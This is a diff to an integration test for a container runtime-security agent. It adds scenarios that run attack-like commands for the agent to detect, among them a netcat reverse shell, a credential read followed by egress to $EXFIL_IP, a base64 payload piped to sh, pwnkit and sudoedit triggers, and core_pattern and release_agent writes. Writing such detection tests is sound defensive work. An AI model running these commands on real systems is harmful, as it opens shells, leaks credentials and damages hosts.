@@ -43,7 +43,7 @@ DB=$IT_TMP/store.db
 
 # --- the agent, ready when it reports a host program run from /tmp (a NOTICE rule)
 cp /bin/true "$IT_TMP/ready-$M"
-"$VIGIL" run --store "$DB" --json --duration 240 >"$OUT" 2>"$ERR" &
+"$VIGIL" run --store "$DB" --json --duration 1800 >"$OUT" 2>"$ERR" &
 AGENT_PID=$!
 for ((i = 0; i < 100; i++)); do
 	kill -0 "$AGENT_PID" 2>/dev/null || it_die "vigil run exited at startup: $(cat "$ERR")"
@@ -90,23 +90,23 @@ scenario tmp "--tmpfs /tmp" 'cp /bin/busybox /tmp/x && /tmp/x true' \
 scenario memfd "-v $ATTACK:/attack:ro" '/attack memfd-exec /bin/busybox true' \
 	"Fileless execution"
 scenario ptrace "--cap-add SYS_PTRACE -v $ATTACK:/attack:ro" 'sleep 5 & /attack ptrace-attach $!; kill $!' \
-	"Ptrace attach to another process"
+	"Container started with dangerous capabilities;Ptrace attach to another process"
 scenario revshell "--network host" "nc 127.0.0.1 $PORT -e /bin/sh" \
 	"Network tool in container;Reverse shell"
 scenario miner "" 'busybox echo stratum+tcp://pool.example:3333 >/dev/null' \
 	"Crypto miner"
 scenario mount "--privileged" 'mkdir -p /mnt && mount -t tmpfs none /mnt' \
-	"Mount in container"
+	"Mount in container;Privileged container started"
 scenario hostdev "--privileged" 'mount -o ro /dev/vda /mnt 2>/dev/null; mount -o ro /dev/sda /mnt 2>/dev/null; true' \
-	"Host device mounted in container"
+	"Host device mounted in container;Privileged container started"
 scenario release "" 'echo /x >/tmp/release_agent' \
 	"Write to cgroup release_agent"
 scenario corepattern "--privileged" 'cat /proc/sys/kernel/core_pattern >/tmp/cp && cat /tmp/cp >/proc/sys/kernel/core_pattern' \
-	"Write to kernel core_pattern"
+	"Privileged container started;Write to kernel core_pattern"
 scenario procsys "--privileged" 'echo 1 >/proc/sys/net/ipv4/ip_forward' \
-	"Write to /proc/sys in container"
+	"Privileged container started;Write to /proc/sys in container"
 scenario nsenter "--privileged" 'nsenter -t 1 -u true' \
-	"Namespace change from container;Nsenter in container"
+	"Namespace change from container;Nsenter in container;Privileged container started"
 scenario module "" 'insmod /bin/busybox 2>/dev/null; true' \
 	"Kernel module loaded from container"
 scenario userns "" 'unshare -U true 2>/dev/null; true' \
@@ -155,6 +155,56 @@ scenario devfile "" 'echo payload >/dev/.cache' \
 	"File created below /dev"
 scenario exfil "--network host -v $ATTACK:/attack:ro" "mkdir -p /root/.aws && echo k >/root/.aws/credentials && cat /root/.aws/credentials >/dev/null && /attack connect $EXFIL_IP $((PORT + 1))" \
 	"Sensitive file read by unexpected program;Sensitive read then egress"
+
+# what Falco's rule files catch that the first set of rules did not (docs/rules.md, "Compared
+# with Falco's rules"). Busybox's shell runs many applets without execve (or through
+# /proc/self/exe): a program meant to be seen is named by its path.
+scenario decode "" 'echo aWQK | base64 -d | sh >/dev/null' \
+	"Decoded payload piped to a shell;Payload decoded in container"
+scenario unshare "" 'unshare -m true 2>/dev/null; true' \
+	"Namespace unshare in container"
+scenario traceme "-v $ATTACK:/attack:ro" '/attack ptrace-traceme' \
+	"Ptrace anti-debugging"
+scenario uffd "-v $ATTACK:/attack:ro" '/attack userfaultfd 2>/dev/null; true' \
+	"Userfaultfd used by an unprivileged or contained process"
+scenario pwnkit "-v $ATTACK:/attack:ro" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/pkexec && /attack exec-noargv /usr/local/bin/pkexec 2>/dev/null; true' \
+	"Pkexec run without arguments"
+scenario samedit "" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/sudoedit && sudoedit -s \\ 2>/dev/null; true' \
+	"Sudoedit heap overflow attempt"
+scenario tunables "" 'GLIBC_TUNABLES=glibc.malloc.mxfast=1 /bin/true' \
+	"GLIBC_TUNABLES in a program's environment"
+scenario sysuser "-t --user 65534" 'true' \
+	"Interactive session of a system user"
+scenario npm "" 'printf npm >/proc/self/comm && /bin/wget -q -O /dev/null http://127.0.0.1:1/ 2>/dev/null; true' \
+	"Network tool run by a package install"
+scenario srvchild "" 'printf nginx >/proc/self/comm && /bin/id >/dev/null; true' \
+	"Suspicious program started by a server"
+scenario kubectl "" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/kubectl && kubectl get pods 2>/dev/null; true' \
+	"Kubernetes client tool in container"
+scenario rsync "" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/rsync && rsync -a /etc x:/ 2>/dev/null; true' \
+	"Remote file copy tool in container"
+scenario recon "-t" '/bin/id >/dev/null; true' \
+	"Interactive shell in container;Reconnaissance in an interactive container session"
+scenario xz "" 'mkdir -p /opt && echo x >/opt/liblzma.so.5.6.1 && printf sshd >/proc/self/comm && read x </opt/liblzma.so.5.6.1; true' \
+	"Backdoored liblzma loaded by sshd"
+scenario repo "" 'mkdir -p /etc/apk && echo http://mirror.invalid/alpine >>/etc/apk/repositories' \
+	"Package repository changed"
+scenario binmod "" 'rm -f /bin/ps && mv /bin/sort /bin/sort.old' \
+	"Binary directory modified"
+scenario chmodx "" 'echo x >/tmp/f && chmod +x /tmp/f' \
+	"Executable bit set in container"
+scenario minerport "-v $ATTACK:/attack:ro" '/attack connect 127.0.0.1 3333' \
+	"Mining pool port contacted from container"
+scenario sshport "-v $ATTACK:/attack:ro" 'mkdir -p /usr/local/bin && ln -s /attack /usr/local/bin/ssh && ssh connect 127.0.0.1 2222' \
+	"SSH to a non-standard port"
+scenario memdev "--privileged" 'head -c 1 /dev/mem >/dev/null 2>&1; true' \
+	"Kernel memory device opened in container;Privileged container started"
+scenario entrypoint "" 'echo x >/proc/self/exe 2>/dev/null; true' \
+	"Container entrypoint overwritten"
+scenario sysadmin "--cap-add SYS_ADMIN" 'true' \
+	"Container started with dangerous capabilities"
+scenario hostmount "-v /etc:/hostetc:ro" 'true' \
+	"Container started with a sensitive host mount"
 
 # listeners on this machine for the reverse shell and the exfiltration
 busybox nc -l -p "$PORT" </dev/null >/dev/null 2>&1 &
